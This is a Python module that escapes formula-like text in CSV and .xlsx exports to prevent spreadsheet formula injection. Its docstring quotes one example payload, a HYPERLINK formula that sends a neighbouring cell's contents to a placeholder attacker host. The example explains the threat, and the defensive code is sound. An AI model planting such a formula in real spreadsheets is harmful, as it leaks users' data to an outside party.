"""Exports are safe to open: text that a spreadsheet would run as a formula is written as text.

OWASP's CSV-injection rule: a field that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to Excel and LibreOffice (``=HYPERLINK("http://evil.example/?leak="&B2, ...)`` sends the
neighbouring cell away when clicked). Every export goes through this module:

- CSV: such a field gets a leading apostrophe (``CsvWriter``, ``CsvDictWriter``), so the spreadsheet shows text;
- .xlsx: such a cell is typed as a string and carries the quote-prefix style (``xlsx_text``), so the stored
  value is the text unchanged (the product's import reads back exactly what was written) and Excel keeps it
  as text even when the cell is edited.

Only text is escaped: a number is a number, negative or not, and so is text that is nothing but a number in
Vietnamese or plain notation ("-3,5", "+12", "-1.234,5"), which a spreadsheet cannot run.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")


def formula_like(value: object) -> bool:
    """True for text a spreadsheet would take as a formula."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value)


def csv_field(value: Any) -> Any:
    return "'" + value if formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_field(v) for v in values]


def csv_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: csv_field(v) for k, v in row.items()}


class CsvWriter:
    """``csv.writer`` whose every row goes through `csv_row`: the one way the product writes CSV."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every row goes through `csv_dict`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow(csv_dict(rowdict))


def xlsx_text(cell: Any) -> None:
    """Make an openpyxl cell that holds formula-like text a text cell (openpyxl types "=..." as a formula)."""
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def xlsx_text_sheet(ws: Any) -> None:
    """`xlsx_text` for every cell of an openpyxl sheet (called once the sheet is written)."""
    for row in ws.iter_rows():
        for cell in row:
            xlsx_text(cell)
